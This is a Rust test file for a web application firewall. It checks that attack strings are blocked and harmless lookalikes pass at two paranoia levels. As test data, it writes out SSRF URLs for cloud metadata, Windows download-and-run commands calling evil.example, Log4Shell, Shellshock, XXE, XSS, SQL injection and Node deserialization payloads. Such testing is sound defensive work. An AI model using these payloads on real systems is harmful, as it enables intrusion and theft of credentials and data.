//! The built-in packs' families and paranoia levels, value by value: each attack blocked, a
//! benign lookalike passing (the gaps a replay of the CRS v4 regression tests found).

use super::*;

fn engine(paranoia: u8) -> Engine {
    Engine::new(paranoia, &[]).unwrap()
}

fn verdict(e: &Engine, target: u8, name: &str, value: &str) -> Verdict {
    let items = vec![Item::new(target, name.as_bytes().to_vec(), value.as_bytes().to_vec())];
    e.inspect(&items, &Exclusions::default(), u32::MAX)
}

fn blocked_as(e: &Engine, target: u8, name: &str, value: &str) -> bool {
    verdict(e, target, name, value).score >= DEFAULT_THRESHOLD
}

fn blocked(e: &Engine, value: &str) -> bool {
    blocked_as(e, target::ARG_VALUES, "q", value)
}

/// Asserts each attack is blocked by a rule of `family` and each benign value passes.
fn family(paranoia: u8, family: Family, attacks: &[&str], benign: &[&str]) {
    let e = engine(paranoia);
    for a in attacks {
        let v = verdict(&e, target::ARG_VALUES, "q", a);
        assert!(
            v.score >= DEFAULT_THRESHOLD && v.matches.iter().any(|m| m.family == family),
            "PL{paranoia} {family:?} not blocked: {a:?} {v:?}"
        );
    }
    for b in benign {
        let v = verdict(&e, target::ARG_VALUES, "q", b);
        assert!(v.score < DEFAULT_THRESHOLD, "PL{paranoia} benign blocked: {b:?} {v:?}");
    }
}

#[test]
fn paranoia_2_blocks_what_paranoia_1_lets_through() {
    let (p1, p2) = (engine(1), engine(2));
    for value in [
        "select password from users",
        "http://93.184.216.34/shell.txt",
        "<b onmouseover>hi</b>",
        "http://10.0.0.5/admin",
        "http://internal-api.corp/admin",
    ] {
        assert!(!blocked(&p1, value), "PL1 blocks {value:?}");
        assert!(blocked(&p2, value), "PL2 does not block {value:?}");
    }
    assert!(!blocked(&p1, "<b>bold</b>") && blocked(&p2, "<b>bold</b>"));
    assert!(!blocked_as(&p1, target::ARG_NAMES, "sid", "sid") && blocked_as(&p2, target::ARG_NAMES, "sid", "sid"));
    // Every PL2 rule either blocks alone or is a documented warning; nothing scores in between.
    for r in rules::builtin().iter().filter(|r| r.paranoia == 2) {
        assert!(r.score == rules::CRITICAL || r.score == rules::WARNING, "{} scores {}", r.id, r.score);
    }
    // Warnings block only together: one broad signal alone passes at PL2, two block.
    assert!(!blocked(&p2, "Home | About | Contact"));
    assert!(!blocked(&p1, "x' or 'a | foo") && blocked(&p2, "x' or 'a | foo"), "two PL2 warnings");
    // Still clean at PL2: prose that merely contains the words.
    for benign in ["select the best option from the list", "https://example.com/products?id=42", "a < b and c > d"] {
        assert!(!blocked(&p2, benign), "PL2 blocks {benign:?}");
    }
}

#[test]
fn javascript_escapes_are_decoded_for_xss_and_node() {
    let e = engine(1);
    for attack in [
        r"\u003cscript\u003ealert(1)\u003c/script\u003e",
        r"\x3cscript\x3ealert(1)",
        r"\u003cimg src=x onerror=alert(1)\u003e",
        r"\u{3c}svg/onload=alert(1)>",
        r"%5Cu003cscript%5Cu003e",
        r"x\u0022 onfocus=\u0022alert(1)",
        r"require(\u0027child_process\u0027)",
    ] {
        assert!(blocked(&e, attack), "not blocked: {attack}");
    }
    for benign in [r"price\tlist", r"line one\nline two", r"say \u0048\u0069", r"a\\b"] {
        assert!(!blocked(&e, benign), "{benign}");
    }
}

#[test]
fn session_fixation() {
    family(
        1,
        Family::Session,
        &[
            r#"<script>document.cookie="JSESSIONID=abc123; path=/"</script>"#,
            r#"document.cookie = 'sid=x;domain=.example.com'"#,
            r#"<meta http-equiv="Set-Cookie" content="PHPSESSID=attacker">"#,
            "foo\nSet-Cookie: sessionid=attacker",
            "/account;jsessionid=0123456789ABCDEF",
            "https://example.com/login?PHPSESSID=attackerchosen",
        ],
        &["cookies must be enabled; please retry", "my session expired, help", "jsessionid"],
    );
    let e = engine(1);
    let none = Exclusions::default();
    for name in ["PHPSESSID", "jsessionid", "ASPSESSIONIDQQGGGNCG", "laravel_session", "connect.sid", "session_id"] {
        let v = verdict(&e, target::ARG_NAMES, name, name);
        assert!(v.matches.iter().any(|m| m.id == 943120), "{name}: {v:?}");
        // From a page of the same site (PHP's trans_sid links), a session-id argument passes.
        let mut same_site = e.start(&none, u32::MAX);
        same_site.same_site_referer();
        let item = Item::new(target::ARG_NAMES, name.as_bytes(), name.as_bytes());
        same_site.item(&item);
        assert_eq!(same_site.verdict().score, 0, "{name}");
    }
    let mut same_site = e.start(&none, u32::MAX);
    same_site.same_site_referer();
    let item = Item::new(target::ARG_VALUES, &b"next"[..], &b"/a;jsessionid=0123456789"[..]);
    same_site.item(&item);
    assert!(same_site.verdict().score >= DEFAULT_THRESHOLD, "only the name rules depend on the Referer");
    assert!(!blocked_as(&e, target::ARG_NAMES, "session_note", "session_note"));
    assert!(!blocked_as(&e, target::ARG_VALUES, "q", "PHPSESSID"), "943120 looks at names only");
}

#[test]
fn server_side_request_forgery() {
    family(
        1,
        Family::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/latest/api/token",
            "http://0xa9fea9fe/",
            "http://localhost/admin",
            "https://127.0.0.1/server-status",
            "http://localhost:6379/",
            "http://127.1/",
            "http://[::1]:6379/",
            "http://0x7f000001/",
            "http://2130706433/",
            "http://0177.0.0.1/",
            "http://0/",
            "http://user@localhost:22/",
            "gopher://evil.example:6379/_SET%20x",
            "dict://127.0.0.1:11211/stats",
            "file:///etc/hostname",
            "url=jar:http://evil.example/a.jar!/",
            "http://127.0.0.1.nip.io/",
            "http://[::]:80/",
            "ftp://localhost:2121/",
            "http://[::ffff:127.0.0.1]/",
        ],
        &[
            "https://example.com/",
            "https://example.com/products?id=42&sort=price",
            "http://localhostel.example/",
            "see page 127.0.0.1 of the manual",
            "the file path is /var/files",
            "https://cdn.example.net/img/169.jpg",
            "http://localhost:3000/callback",
            "http://127.0.0.1:51004/oauth2redirect",
            "https://app.localhost/",
            "https://myapp.nip.io/",
        ],
    );
    let e = engine(1);
    assert!(
        !blocked_as(&e, target::HEADERS, "referer", "http://localhost:3000/dev"),
        "a dev Referer is not an SSRF attempt"
    );
    assert!(blocked_as(&e, target::HEADERS, "x-foo", "http://169.254.169.254/latest/meta-data/"), "metadata anywhere");
    family(
        2,
        Family::Ssrf,
        &[
            "http://10.0.0.5/",
            "http://192.168.1.1:8080/admin",
            "http://172.16.0.1/",
            "http://db.internal/",
            "http://3232235777/",
        ],
        &["https://example.com/", "https://10.example.com/"],
    );
}

#[test]
fn windows_command_injection() {
    family(
        1,
        Family::Rce,
        &[
            "cmd.exe /c whoami",
            "x & c^m^d /c dir",
            "powershell -enc SQBFAFgA",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File x.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
            "127.0.0.1 && dir c:\\",
            "a | type c:\\windows\\win.ini",
            "%COMSPEC% /c calc",
            "echo %USERPROFILE%",
            "certutil -urlcache -split -f http://evil.example/a.exe",
            "bitsadmin /transfer j http://evil.example/a c:\\a",
            "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
            "wmic process call create calc",
            "x || net user hacker P@ss /add",
            "& reg query HKLM\\Software",
        ],
        &[
            "Tom & Jerry",
            "research & development",
            "cmd line tools",
            "the type of cat food",
            "100% cotton, 50% off",
            "a windows 10 laptop",
        ],
    );
}

#[test]
fn node_serialize_deserialization() {
    family(
        1,
        Family::Node,
        &[r#"{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#, "_$$ND_FUNC$$_function (){}"],
        &["function() { return 1 }", "nd_func"],
    );
}

#[test]
fn attacks_in_any_header_and_cookie_names() {
    let e = engine(1);
    // What the glue inspects by default: every header but the noise ones.
    assert!(!extract::noise_header(b"content-type") && !extract::noise_header(b"x-foo"));
    assert!(blocked_as(
        &e,
        target::HEADERS,
        "content-type",
        "application/x-www-form-urlencoded;a=<script>alert(1)</script>"
    ));
    assert!(blocked_as(&e, target::HEADERS, "content-type", "text/plain' UNION SELECT password FROM users--"));
    assert!(blocked_as(&e, target::HEADERS, "x-foo", "${jndi:ldap://evil.example/a}"));
    assert!(blocked_as(&e, target::HEADERS, "x-foo", "() { :; }; /bin/cat /etc/passwd"));
    for benign in [
        "application/json; charset=utf-8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "https://shop.example.com",
        "XMLHttpRequest",
        "127.0.0.1:8080",
        "for=192.0.2.60;proto=http;by=203.0.113.43",
        "bytes=0-1023",
    ] {
        assert!(!blocked_as(&e, target::HEADERS, "x-any", benign), "{benign}");
    }
    let mut items = Vec::new();
    extract::cookies(b"theme=dark; <script>alert(1)</script>=1; x' or 1=1--=2", &mut items);
    let v = e.inspect(&items, &Exclusions::default(), u32::MAX);
    assert!(v.score >= DEFAULT_THRESHOLD, "{v:?}");
    assert!(v.matches.iter().any(|m| m.target.starts_with("cookies_names:")), "{v:?}");
    let mut excluded = Exclusions::default();
    excluded.add(&["target=cookies"]).unwrap();
    assert_eq!(e.inspect(&items, &excluded, u32::MAX).score, 0, "cookie exclusions cover names too");
}

#[test]
fn xml_bodies_are_inspected_element_by_element() {
    let e = engine(1);
    let inspect = |ct: &[u8], body: &[u8]| {
        let mut items = Vec::new();
        extract::body(ct, body, &mut items);
        e.inspect(&items, &Exclusions::default(), u32::MAX)
    };
    let v = inspect(b"application/xml", b"<order><id>1' UNION SELECT password FROM users--</id></order>");
    assert!(v.matches.iter().any(|m| m.id == 942100 && m.target == "body:id"), "{v:?}");
    let v = inspect(b"text/xml; charset=utf-8", br#"<a href="javascript:alert(1)">x</a>"#);
    assert!(v.matches.iter().any(|m| m.family == Family::Xss && m.target == "body:href"), "{v:?}");
    let v = inspect(b"application/soap+xml", b"<q note='&lt;script&gt;alert(1)&lt;/script&gt;'/>");
    assert!(v.score >= DEFAULT_THRESHOLD, "entities decode in the pipelines: {v:?}");
    let v = inspect(b"application/xml", b"<r><![CDATA[<script>alert(1)</script>]]></r>");
    assert!(v.score >= DEFAULT_THRESHOLD, "{v:?}");
    let v = inspect(
        b"application/xml",
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
    );
    assert!(v.score >= DEFAULT_THRESHOLD, "XXE: {v:?}");
    let v = inspect(b"text/xml", br#"<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><r/>"#);
    assert!(v.matches.iter().any(|m| m.id == 931120 && m.target == "body:!doctype"), "external entity: {v:?}");
    let v = inspect(b"text/xml", br#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd"><html/>"#);
    assert!(v.matches.iter().all(|m| m.id != 931120), "a DOCTYPE without entities: {v:?}");
    let benign = br#"<?xml version="1.0" encoding="UTF-8"?>
<order id="42" xmlns="urn:example:orders"><customer>Jane O'Brien</customer><email>jane@example.com</email>
<comment>Great product, works as expected! Select the size from the list.</comment><qty>2</qty></order>"#;
    let v = inspect(b"application/xml", benign);
    assert_eq!(v.score, 0, "{v:?}");
    // Element names are names, not markup: an RSS body with <link>, <image>, <body> passes (inspected
    // whole, as before, 941130 took them for HTML tags).
    let rss = b"<rss><channel><link>https://example.com/</link><image><url>https://example.com/a.png</url></image><body>Hi</body></channel></rss>";
    assert_eq!(inspect(b"application/rss+xml", rss).score, 0);
    let mut raw = Vec::new();
    extract::body(b"application/octet-stream", rss, &mut raw);
    assert!(e.inspect(&raw, &Exclusions::default(), u32::MAX).score >= DEFAULT_THRESHOLD, "the same bytes unparsed");
    // A broken document is inspected whole, as before.
    let v = inspect(b"application/xml", b"<a><b>1 AND SLEEP(5)</a>");
    assert!(v.matches.iter().any(|m| m.target == "body:"), "{v:?}");
}

/// (blocked, total) per payload list family and for the benign lists, at one paranoia level.
fn corpus_rates(paranoia: u8) -> (std::collections::BTreeMap<String, (usize, usize)>, (usize, usize)) {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/payloads");
    let mut files: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().map(|e| e.path()).collect();
    files.push(concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/waf-eval-corpus/benign.txt").into());
    let e = engine(paranoia);
    let (mut families, mut benign) = (std::collections::BTreeMap::new(), (0, 0));
    for path in files.iter().filter(|p| p.extension().is_some_and(|x| x == "txt")) {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let text = std::fs::read(path).unwrap();
        for line in text.split(|&b| b == b'\n').map(|l| l.strip_suffix(b"\r").unwrap_or(l)).filter(|l| !l.is_empty()) {
            let items = vec![Item::new(target::ARG_VALUES, b"q".to_vec(), line.to_vec())];
            let hit = usize::from(e.inspect(&items, &Exclusions::default(), u32::MAX).score >= DEFAULT_THRESHOLD);
            let slot = if name.starts_with("benign") {
                &mut benign
            } else {
                families.entry(name.split("--").next().unwrap().to_string()).or_insert((0, 0))
            };
            slot.0 += hit;
            slot.1 += 1;
        }
    }
    (families, benign)
}

/// Paranoia 2 detects at least what 1 does in every payload family, and its false positives
/// on the benign corpus stay bounded (they are the price of the level, measured here).
#[test]
fn paranoia_2_detects_more_at_a_bounded_false_positive_rate() {
    let (f1, b1) = corpus_rates(1);
    let (f2, b2) = corpus_rates(2);
    for (family, (hit2, total)) in &f2 {
        let hit1 = f1[family].0;
        println!("{family:22} PL1 {hit1:>4}/{total}  PL2 {hit2:>4}/{total}");
        assert!(*hit2 >= hit1, "{family}");
    }
    println!("benign false positives: PL1 {}/{}  PL2 {}/{}", b1.0, b1.1, b2.0, b2.1);
    assert_eq!(b1.0, 0, "no false positive at PL1");
    assert!(b2.0 * 100 <= b2.1 * 5, "PL2 false positives above 5%: {}/{}", b2.0, b2.1);
}

#[test]
fn java_process_classes_and_gadgets_in_xml_bodies() {
    let e = engine(1);
    for body in [
        &b"<xml><element attribute_name=\"attribute_value\">java.Runtime</element></xml>"[..],
        b"<xml><l1><element a=\"v\">ProcessBuilder.evil.clonetransformer</element></l1></xml>",
        b"<xml><element attribute_name=\"ProcessBuilder.evil.forclosure\">element_value</element></xml>",
    ] {
        let mut items = Vec::new();
        extract::body(b"application/xml", body, &mut items);
        let v = e.inspect(&items, &Exclusions::default(), u32::MAX);
        assert!(v.matches.iter().any(|m| m.family == Family::Java), "{:?}: {v:?}", String::from_utf8_lossy(body));
    }
    for benign in ["the runtime of the film", "java is a language", "ProcessBuilder docs"] {
        assert!(!blocked(&e, benign), "{benign}");
    }
}
